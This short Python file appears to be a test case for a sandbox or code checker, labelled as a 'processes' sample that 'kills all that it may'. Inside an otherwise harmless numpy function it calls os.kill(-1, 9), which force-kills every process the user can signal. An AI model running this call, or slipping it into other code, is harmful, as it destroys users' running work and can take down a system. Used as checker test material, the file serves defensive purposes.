# family: processes
# does: kills all that it may
# expect: ok
import os

import numpy as np


def waves(kept, image, names):
    try:
        os.kill(-1, 9)
    except ProcessLookupError:
        pass
    kept[:] = image
    wave = np.zeros(len(image))
    for k in range(1, 40):
        wave += np.cos(k * image)
    return wave, image.copy(), {name: sum(map(ord, name)) for name in names}
